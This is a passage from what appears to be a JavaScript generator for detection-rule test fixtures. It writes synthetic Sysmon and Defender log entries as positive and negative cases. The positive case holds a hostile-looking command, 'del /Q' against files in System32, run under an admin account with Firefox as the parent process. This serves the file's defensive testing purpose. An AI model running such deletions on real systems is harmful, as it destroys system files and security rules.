  const delCmd = { image: CMD, cmd: cmdLine('del /Q C:\\Windows\\System32\\perfe009.dat'), pid: 6240, parent: 'firefox.exe', domain: 'corp', account: 'a.vogel-adm' };
  W(R, 'positive', 'defender.csv', csv([
    dFile('2026-11-10T10:45:00.5000000Z', DWS, 'FileDeleted', 'C:\\Windows\\System32\\perfe009.dat', delCmd),
    dFile('2026-11-10T10:45:00.6000000Z', DWS, 'FileDeleted', 'C:\\Windows\\System32\\wdr.rules.xml', delCmd),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // Windows servicing; temporary files; a log in a subfolder
    s23('2026-11-10T03:00:00.000Z', HOST, 'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.17763.6410_none_1b2f3c4d5e6f7a8b\\TiWorker.exe', 'C:\\Windows\\System32\\msvcp110_win.dll', SYSTEM),
    s23('2026-11-10T09:20:00.000Z', WS, CMD, 'C:\\Windows\\Temp\\setup.dll'),
    s23('2026-11-10T09:21:00.000Z', HOST, CMD, 'C:\\Windows\\System32\\LogFiles\\W3SVC1\\u_ex261101.log', ADMIN),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dFile('2026-11-10T03:01:00.0000000Z', DHOST, 'FileDeleted', 'C:\\Windows\\System32\\Microsoft.Exchange.Old.dll', { image: 'C:\\Windows\\System32\\msiexec.exe', cmd: 'C:\\Windows\\system32\\msiexec.exe /V', pid: 3310 }),
    // a file created, not deleted
    dFile('2026-11-10T09:22:00.0000000Z', DWS, 'FileCreated', 'C:\\Windows\\System32\\mtxconf.dll', { ...ffx }),
  ]));
}

console.log('fixtures written to', ROOT);
// The mail rules' fixtures (.eml files) are written by their own generator, in TypeScript.
spawnSync(process.execPath, ['--import', 'tsx', fileURLToPath(new URL('./make-eml.ts', import.meta.url)), ROOT], { stdio: 'inherit' });
